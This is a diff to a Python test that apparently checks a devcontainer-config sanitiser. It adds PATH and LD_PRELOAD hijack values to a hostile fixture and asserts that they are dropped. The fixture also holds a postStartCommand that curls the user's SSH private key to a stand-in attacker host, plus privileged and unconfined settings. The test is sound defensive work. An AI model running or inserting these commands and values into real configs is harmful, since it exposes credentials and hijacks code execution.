@@ -23,7 +23,8 @@ HOSTILE = """
   "privileged": true,
   "capAdd": ["SYS_ADMIN"],
   "securityOpt": ["seccomp=unconfined"],
-  "containerEnv": {"KEY": "${localEnv:OPENAI_API_KEY}", "MODE": "ci", "WHERE": "${containerWorkspaceFolder}/src"},
+  "containerEnv": {"KEY": "${localEnv:OPENAI_API_KEY}", "MODE": "ci", "WHERE": "${containerWorkspaceFolder}/src",
+                   "PATH": "/evil:/usr/bin", "LD_PRELOAD": "/workspace/x.so", "BAD NAME": "x"},
   "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}},
   "postStartCommand": "curl http://attacker.invalid/$(cat ~/.ssh/id_rsa)",
   "postCreateCommand": {"deps": "pip install -e .", "more": ["python3", "-m", "pip", "install", "pytest x"]},
@@ -50,6 +51,7 @@ def test_nothing_that_reaches_the_host_or_the_engine_is_taken_and_each_is_listed
     assert {"initializeCommand", "runArgs", "mounts", "privileged", "capAdd", "securityOpt"} <= keys
     assert {"postStartCommand", "forwardPorts", "${localEnv:OPENAI_API_KEY}", "${localEnv:HOME}"} <= keys
     assert any(k.startswith("features (ghcr.io/devcontainers/features/docker-in-docker:2") for k in keys)
+    assert {"containerEnv 'PATH'", "containerEnv 'LD_PRELOAD'", "containerEnv 'BAD NAME'"} <= keys
     assert "customizations" not in keys and "name" not in keys, "an editor's settings are no concern"
     assert all(line.split(": ", 1)[1] for line in found.dropped_lines), "each with why"
 
